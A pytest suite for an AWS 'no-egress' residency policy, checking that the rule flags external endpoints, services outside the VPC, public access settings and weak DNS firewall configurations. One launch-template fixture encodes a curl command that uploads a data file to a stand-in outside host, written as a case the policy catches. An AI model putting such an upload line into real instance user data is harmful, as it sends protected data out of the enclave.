"""no-egress, widened: nothing names an endpoint outside the region's AWS names, nothing runs outside the VPC, DNS is filtered.

Each family starts from a compliant fixture; each failing case changes one thing.
"""

from __future__ import annotations

import base64
import json

import pytest
from policy_support import (
    BUCKET_NAME,
    CONFIG,
    DATA,
    REGION,
    SG_ID,
    SUBNET_ID,
    UNKNOWN,
    VPC_ID,
    assert_sdk_inputs,
    check_stack,
    messages_on,
    res,
    site,
)
from residency_rules import egress

N = egress.POLICY
ROLE = f"arn:aws:iam::{DATA}:role/enclave-dublin-workload"
IN_VPC = {"subnetIds": [SUBNET_ID], "securityGroupIds": [SG_ID]}
FIREWALL_CONFIG = {**CONFIG["no-egress"], "requireDnsFirewall": True}


def on_site(type_: str, props: dict, *extra, config: dict | None = None, **kw) -> list[str]:
    assert_sdk_inputs(type_, props)
    target = res(type_, props, name="target", **kw)
    return messages_on(N, site(*extra, target), target, config)


def function(variables: dict | None = None, **props) -> tuple[str, dict]:
    base = {"role": ROLE, "runtime": "python3.12", "handler": "index.handler", "vpcConfig": IN_VPC}
    if variables is not None:
        base["environment"] = {"variables": variables}
    return "aws:lambda/function:Function", {**base, **props}


# --------------------------------------------------------------------------- names in inputs


@pytest.mark.parametrize(
    "value",
    [
        f"https://sqs.{REGION}.amazonaws.com/{DATA}/jobs",
        f"s3.{REGION}.amazonaws.com",
        f"https://{BUCKET_NAME}.s3.{REGION}.amazonaws.com/report.csv",
        f"vpce-0a1b-2c3d.s3.{REGION}.vpce.amazonaws.com",
        f"ip-10-20-0-5.{REGION}.compute.internal",
        "postgres://db.data.enclave.internal:5432/app",
        "http://10.20.3.4:8080/health",
        "index.handler",
        "main.py",
        "anthropic.claude-3-haiku-20240307-v1:0",
    ],
)
def test_names_inside_the_site_pass(value):
    assert on_site(*function({"TARGET": value})) == []


@pytest.mark.parametrize(
    "value,expected",
    [
        ("https://hooks.example.com/services/T000/B000", "outside AWS's eu-west-1 endpoints"),
        ("sftp://files.partner.example:22/inbox", "outside AWS's eu-west-1 endpoints"),
        ("jdbc:postgresql://warehouse.partner.io:5432/db", "outside AWS's eu-west-1 endpoints"),
        ("mailto:analytics@partner.example", "SMTP"),
        ("ops@example.com", "SMTP"),
        ("https://34.120.10.10/ingest", "public internet address"),
        ("api.partner.io", "outside AWS's eu-west-1 endpoints"),
        ("https://s3.us-east-1.amazonaws.com/bucket", "endpoint in us-east-1"),
        ("https://sts.amazonaws.com", "without a region"),
        ("https://d111111abcdef8.cloudfront.net/x", "edge-network"),
    ],
)
def test_endpoints_outside_the_site_fail(value, expected):
    messages = on_site(*function({"TARGET": value}))
    assert any(expected in m for m in messages), messages


def test_a_bare_endpoint_of_another_region_under_an_endpoint_key_fails():
    messages = on_site(*function({"S3_ENDPOINT": "s3.us-west-2.amazonaws.com"}))
    assert any("endpoint in us-west-2" in m for m in messages), messages


def test_a_name_in_a_private_hosted_zone_of_the_program_passes():
    zone = res("aws:route53/zone:Zone", {"name": "corp.example.com", "vpcs": [{"vpcId": VPC_ID}]}, name="zone")
    assert on_site(*function({"DB": "https://db.corp.example.com/x"}), zone) == []
    public = res("aws:route53/zone:Zone", {"name": "corp.example.com"}, name="zone")
    found = check_stack(N, site(public))
    assert [u for _m, u in found] == [public.urn] and "public hosted zone" in found[0][0], found


@pytest.mark.parametrize(
    "type_,props",
    [
        (
            "aws:ecs/taskDefinition:TaskDefinition",
            {
                "family": "app",
                "containerDefinitions": json.dumps(
                    [
                        {
                            "name": "app",
                            "image": "app",
                            "environment": [{"name": "SINK", "value": "https://collector.example.com"}],
                        }
                    ]
                ),
            },
        ),
        (
            "aws:ssm/parameter:Parameter",
            {"name": "/app/sink", "type": "String", "value": "https://collector.example.com"},
        ),
        (
            "aws:glue/job:Job",
            {
                "roleArn": ROLE,
                "command": {"scriptLocation": f"s3://{BUCKET_NAME}/etl.py"},
                "connections": ["site-network"],
                "defaultArguments": {"--sink": "https://collector.example.com"},
            },
        ),
        (
            "aws:sfn/stateMachine:StateMachine",
            {
                "roleArn": ROLE,
                "definition": json.dumps(
                    {
                        "StartAt": "Call",
                        "States": {
                            "Call": {
                                "Type": "Task",
                                "Resource": "arn:aws:states:::http:invoke",
                                "Parameters": {"ApiEndpoint": "https://api.example.com", "Method": "POST"},
                                "End": True,
                            }
                        },
                    }
                ),
            },
        ),
        (
            "aws:cloudwatch/eventTarget:EventTarget",
            {"rule": "r", "arn": f"arn:aws:events:{REGION}:{DATA}:api-destination/d/1"},
        ),
        (
            "aws:sns/topicSubscription:TopicSubscription",
            {"topic": "t", "protocol": "https", "endpoint": "https://hooks.example.com"},
        ),
        ("aws:sns/topicSubscription:TopicSubscription", {"topic": "t", "protocol": "sms", "endpoint": "+15555550100"}),
        (
            "aws:kinesis/firehoseDeliveryStream:FirehoseDeliveryStream",
            {
                "destination": "http_endpoint",
                "httpEndpointConfiguration": {"url": "https://intake.example.com", "name": "x"},
            },
        ),
        (
            "aws:ec2/launchTemplate:LaunchTemplate",
            {
                "userData": base64.b64encode(
                    b"#!/bin/sh\ncurl -T /data/export.csv https://upload.example.com/\n"
                ).decode()
            },
        ),
        ("aws:ec2/vpcDhcpOptions:VpcDhcpOptions", {"domainNameServers": ["8.8.8.8"]}),
    ],
)
def test_every_service_that_can_send_out_is_caught(type_, props):
    glue = res(
        "aws:glue/connection:Connection",
        {
            "name": "site-network",
            "connectionType": "NETWORK",
            "physicalConnectionRequirements": {"subnetId": SUBNET_ID},
        },
        name="conn",
    )
    assert on_site(type_, props, glue), type_


def test_aws_targets_of_the_site_pass():
    assert (
        on_site(
            "aws:sns/topicSubscription:TopicSubscription",
            {"topic": "t", "protocol": "sqs", "endpoint": f"arn:aws:sqs:{REGION}:{DATA}:q"},
        )
        == []
    )
    assert (
        on_site(
            "aws:kinesis/firehoseDeliveryStream:FirehoseDeliveryStream",
            {
                "destination": "extended_s3",
                "extendedS3Configuration": {"bucketArn": f"arn:aws:s3:::{BUCKET_NAME}", "roleArn": ROLE},
            },
        )
        == []
    )


# --------------------------------------------------------------------------- services outside the VPC


@pytest.mark.parametrize(
    "type_,props",
    [
        function(),
        (
            "aws:sagemaker/notebookInstance:NotebookInstance",
            {
                "instanceType": "ml.t3.medium",
                "roleArn": ROLE,
                "directInternetAccess": "Disabled",
                "subnetId": SUBNET_ID,
            },
        ),
        (
            "aws:sagemaker/domain:Domain",
            {
                "domainName": "d",
                "authMode": "IAM",
                "vpcId": VPC_ID,
                "subnetIds": [SUBNET_ID],
                "appNetworkAccessType": "VpcOnly",
                "defaultUserSettings": {"executionRole": ROLE},
            },
        ),
        (
            "aws:sagemaker/model:Model",
            {"executionRoleArn": ROLE, "vpcConfig": {"subnets": [SUBNET_ID], "securityGroupIds": [SG_ID]}},
        ),
        ("aws:sagemaker/model:Model", {"executionRoleArn": ROLE, "enableNetworkIsolation": True}),
        (
            "aws:codebuild/project:Project",
            {"serviceRole": ROLE, "vpcConfig": {"vpcId": VPC_ID, "subnets": [SUBNET_ID], "securityGroupIds": [SG_ID]}},
        ),
        (
            "aws:emrserverless/application:Application",
            {"releaseLabel": "emr-7.0.0", "type": "spark", "networkConfiguration": {"subnetIds": [SUBNET_ID]}},
        ),
        ("aws:opensearch/domain:Domain", {"domainName": "d", "vpcOptions": {"subnetIds": [SUBNET_ID]}}),
        ("aws:apigateway/restApi:RestApi", {"name": "a", "endpointConfiguration": {"types": ["PRIVATE"]}}),
        (
            "aws:eks/cluster:Cluster",
            {"roleArn": ROLE, "vpcConfig": {"subnetIds": [SUBNET_ID], "endpointPublicAccess": False}},
        ),
        (
            "aws:dms/replicationInstance:ReplicationInstance",
            {"replicationInstanceClass": "dms.t3.micro", "replicationInstanceId": "r", "publiclyAccessible": False},
        ),
        (
            "aws:ecs/service:Service",
            {"name": "s", "networkConfiguration": {"subnets": [SUBNET_ID], "assignPublicIp": False}},
        ),
        ("aws:lb/loadBalancer:LoadBalancer", {"internal": True, "subnets": [SUBNET_ID]}),
        (
            "aws:apprunner/service:Service",
            {
                "serviceName": "s",
                "networkConfiguration": {
                    "egressConfiguration": {"egressType": "VPC", "vpcConnectorArn": "arn"},
                    "ingressConfiguration": {"isPubliclyAccessible": False},
                },
            },
        ),
    ],
)
def test_services_placed_in_the_sites_vpc_pass(type_, props):
    assert on_site(type_, props) == []


@pytest.mark.parametrize(
    "type_,props,expected",
    [
        (*function(vpcConfig=None), "outside the VPC"),
        (
            *function(vpcConfig={"subnetIds": ["subnet-0ther"], "securityGroupIds": [SG_ID]}),
            "not a subnet of this program",
        ),
        (
            "aws:sagemaker/notebookInstance:NotebookInstance",
            {"instanceType": "ml.t3.medium", "roleArn": ROLE, "subnetId": SUBNET_ID},
            "direct_internet_access",
        ),
        (
            "aws:sagemaker/domain:Domain",
            {
                "domainName": "d",
                "authMode": "IAM",
                "vpcId": VPC_ID,
                "subnetIds": [SUBNET_ID],
                "defaultUserSettings": {"executionRole": ROLE},
            },
            "VpcOnly",
        ),
        ("aws:sagemaker/model:Model", {"executionRoleArn": ROLE}, "enable_network_isolation"),
        ("aws:codebuild/project:Project", {"serviceRole": ROLE}, "outside the VPC"),
        (
            "aws:glue/job:Job",
            {"roleArn": ROLE, "command": {"scriptLocation": f"s3://{BUCKET_NAME}/etl.py"}},
            "without a connection",
        ),
        (
            "aws:glue/job:Job",
            {
                "roleArn": ROLE,
                "command": {"scriptLocation": f"s3://{BUCKET_NAME}/etl.py"},
                "connections": ["elsewhere"],
            },
            "not a Glue connection of this program",
        ),
        ("aws:glue/connection:Connection", {"name": "c", "connectionType": "SALESFORCE"}, "outside the site"),
        (
            "aws:emrserverless/application:Application",
            {"releaseLabel": "emr-7.0.0", "type": "spark"},
            "outside the VPC",
        ),
        ("aws:emr/cluster:Cluster", {"releaseLabel": "emr-7.0.0", "serviceRole": ROLE}, "outside the VPC"),
        ("aws:opensearch/domain:Domain", {"domainName": "d"}, "public endpoint"),
        (
            "aws:opensearch/serverlessSecurityPolicy:ServerlessSecurityPolicy",
            {
                "name": "n",
                "type": "network",
                "policy": json.dumps(
                    [{"Rules": [{"ResourceType": "collection", "Resource": ["collection/c"]}], "AllowFromPublic": True}]
                ),
            },
            "from the internet",
        ),
        (
            "aws:apigateway/restApi:RestApi",
            {"name": "a", "endpointConfiguration": {"types": ["REGIONAL"]}},
            "reachable from the internet",
        ),
        (
            "aws:eks/cluster:Cluster",
            {"roleArn": ROLE, "vpcConfig": {"subnetIds": [SUBNET_ID]}},
            "endpoint_public_access",
        ),
        (
            "aws:dms/replicationInstance:ReplicationInstance",
            {"replicationInstanceClass": "dms.t3.micro", "replicationInstanceId": "r"},
            "publicly accessible",
        ),
        (
            "aws:msk/cluster:Cluster",
            {
                "clusterName": "k",
                "kafkaVersion": "3.6.0",
                "numberOfBrokerNodes": 3,
                "brokerNodeGroupInfo": {
                    "clientSubnets": [SUBNET_ID],
                    "instanceType": "kafka.m5.large",
                    "connectivityInfo": {"publicAccess": {"type": "SERVICE_PROVIDED_EIPS"}},
                },
            },
            "internet addresses",
        ),
        (
            "aws:ecs/service:Service",
            {"name": "s", "networkConfiguration": {"subnets": [SUBNET_ID], "assignPublicIp": True}},
            "internet address",
        ),
        (
            "aws:batch/jobDefinition:JobDefinition",
            {
                "name": "j",
                "type": "container",
                "containerProperties": json.dumps(
                    {"image": "app", "networkConfiguration": {"assignPublicIp": "ENABLED"}}
                ),
            },
            "internet address",
        ),
        (
            "aws:rds/instance:Instance",
            {"instanceClass": "db.t4g.micro", "publiclyAccessible": True},
            "internet address",
        ),
        ("aws:lb/loadBalancer:LoadBalancer", {"subnets": [SUBNET_ID]}, "internet-facing"),
        ("aws:apprunner/service:Service", {"serviceName": "s"}, "egress is the internet"),
        ("aws:transfer/server:Server", {}, "PUBLIC endpoint"),
        ("aws:appsync/graphQLApi:GraphQLApi", {"name": "g", "authenticationType": "AWS_IAM"}, "PRIVATE"),
        (
            "aws:route53/resolverEndpoint:ResolverEndpoint",
            {"direction": "OUTBOUND", "securityGroupIds": [SG_ID], "ipAddresses": [{"subnetId": SUBNET_ID}]},
            "OUTBOUND",
        ),
        ("aws:route53/resolverRule:ResolverRule", {"domainName": "corp.example", "ruleType": "FORWARD"}, "FORWARD"),
        (
            "aws:ec2/managedPrefixList:ManagedPrefixList",
            {"name": "p", "addressFamily": "IPv4", "maxEntries": 5, "entries": [{"cidr": "52.0.0.0/8"}]},
            "reaches the internet",
        ),
        ("aws:ec2/serialConsoleAccess:SerialConsoleAccess", {"enabled": True}, "serial console"),
        (
            "aws:ec2/vpcBlockPublicAccessOptions:VpcBlockPublicAccessOptions",
            {"internetGatewayBlockMode": "block-ingress"},
            "block-bidirectional",
        ),
        (
            "aws:emr/blockPublicAccessConfiguration:BlockPublicAccessConfiguration",
            {"blockPublicSecurityGroupRules": False},
            "EMR's account block",
        ),
    ],
)
def test_services_outside_the_vpc_or_with_internet_access_fail(type_, props, expected):
    messages = on_site(type_, props)
    assert any(expected in m for m in messages), messages


def test_subnets_unknown_at_preview_are_resolved_through_their_dependency():
    stack = site()
    subnet = next(r for r in stack if r.resource_type == "aws:ec2/subnet:Subnet")
    type_, props = function(vpcConfig={"subnetIds": [UNKNOWN], "securityGroupIds": [UNKNOWN]})
    ok = res(type_, props, name="ok", deps={"vpcConfig": [subnet]})
    orphan = res(type_, props, name="orphan")
    found = check_stack(N, [*stack, ok, orphan])
    assert {u for _m, u in found} == {orphan.urn}, found


# --------------------------------------------------------------------------- DNS firewall (issue #12)

FW = "aws:route53/"


def dns_firewall(
    allowed=(f"*.{REGION}.amazonaws.com", f"{REGION}.compute.internal"),
    fail_open="DISABLED",
    block="*",
    config=True,
    association=True,
    redirection="INSPECT_REDIRECTION_DOMAIN",
    mutation="ENABLED",
):
    """Issue #12's DNS firewall (COORDINATION.md section 3) on the site's VPC, as resources of the stack."""
    vpc = res("aws:ec2/vpc:Vpc", {"cidrBlock": "10.20.0.0/16", "enableDnsSupport": True, "id": "vpc-fw"}, name="vpc-fw")
    allow_list = res(
        f"{FW}resolverFirewallDomainList:ResolverFirewallDomainList",
        {"domains": list(allowed), "id": "rslvr-fdl-a"},
        name="allowed",
    )
    block_list = res(
        f"{FW}resolverFirewallDomainList:ResolverFirewallDomainList",
        {"domains": [block], "id": "rslvr-fdl-b"},
        name="blocked",
    )
    group = res(
        f"{FW}resolverFirewallRuleGroup:ResolverFirewallRuleGroup", {"name": "g", "id": "rslvr-frg-1"}, name="group"
    )
    rules = [
        res(
            f"{FW}resolverFirewallRule:ResolverFirewallRule",
            {
                "action": "ALLOW",
                "priority": 100,
                "firewallDomainListId": "rslvr-fdl-a",
                "firewallRuleGroupId": "rslvr-frg-1",
                "name": "allow",
                "firewallDomainRedirectionAction": redirection,
            },
            name="allow-rule",
        ),
        res(
            f"{FW}resolverFirewallRule:ResolverFirewallRule",
            {
                "action": "BLOCK",
                "blockResponse": "NXDOMAIN",
                "priority": 200,
                "firewallDomainListId": UNKNOWN,
                "firewallRuleGroupId": UNKNOWN,
                "name": "block",
            },
            name="block-rule",
            deps={"firewallDomainListId": [block_list], "firewallRuleGroupId": [group]},
        ),
    ]
    extra = [vpc, allow_list, block_list, group, *rules]
    if association:
        extra.append(
            res(
                f"{FW}resolverFirewallRuleGroupAssociation:ResolverFirewallRuleGroupAssociation",
                {
                    "firewallRuleGroupId": "rslvr-frg-1",
                    "vpcId": UNKNOWN,
                    "priority": 101,
                    "name": "a",
                    "mutationProtection": mutation,
                },
                name="assoc",
                deps={"vpcId": [vpc]},
            )
        )
    if config:
        extra.append(
            res(
                f"{FW}resolverFirewallConfig:ResolverFirewallConfig",
                {"resourceId": "vpc-fw", "firewallFailOpen": fail_open},
                name="fw-config",
            )
        )
    for r in extra:
        assert_sdk_inputs(r.resource_type, dict(r.props["__target"]))
    return [*site(), *extra], vpc


def test_a_vpc_behind_the_dns_firewall_passes():
    stack, _vpc = dns_firewall()
    assert check_stack(N, stack, FIREWALL_CONFIG) == []


@pytest.mark.parametrize(
    "kw,on,expected",
    [
        ({"association": False}, "vpc-fw", "DNS queries can carry data out"),
        ({"block": "*.example.com"}, "vpc-fw", "BLOCKs a domain list containing '*'"),
        ({"fail_open": "ENABLED"}, "vpc-fw", "fail-open"),
        ({"config": False}, "vpc-fw", "no ResolverFirewallConfig"),
        ({"mutation": "DISABLED"}, "vpc-fw", "not mutation-protected"),
        ({"allowed": ("*.amazonaws.com",)}, "allow-rule", "not an AWS name of eu-west-1"),
        ({"allowed": ("*.us-east-1.amazonaws.com",)}, "allow-rule", "not an AWS name of eu-west-1"),
        ({"allowed": ("exfil.example.com",)}, "allow-rule", "not an AWS name of eu-west-1"),
        ({"allowed": ("*",)}, "allow-rule", "admits every name"),
        ({"redirection": "TRUST_REDIRECTION_DOMAIN"}, "allow-rule", "trusts redirection domains"),
    ],
)
def test_a_dns_firewall_that_lets_names_out_fails(kw, on, expected):
    stack, _vpc = dns_firewall(**kw)
    found = check_stack(N, stack, FIREWALL_CONFIG)
    assert found and all(u.endswith("::" + on) for _m, u in found), found
    assert any(expected in m for m, _u in found), found


def test_a_vpc_without_dns_support_needs_no_firewall():
    vpc = res("aws:ec2/vpc:Vpc", {"cidrBlock": "10.20.0.0/16", "enableDnsSupport": False}, name="quiet")
    assert check_stack(N, site(vpc), FIREWALL_CONFIG) == []
    loud = res("aws:ec2/vpc:Vpc", {"cidrBlock": "10.20.0.0/16"}, name="loud")  # AWS's default: DNS support on
    assert [u for _m, u in check_stack(N, site(loud), FIREWALL_CONFIG)] == [loud.urn]
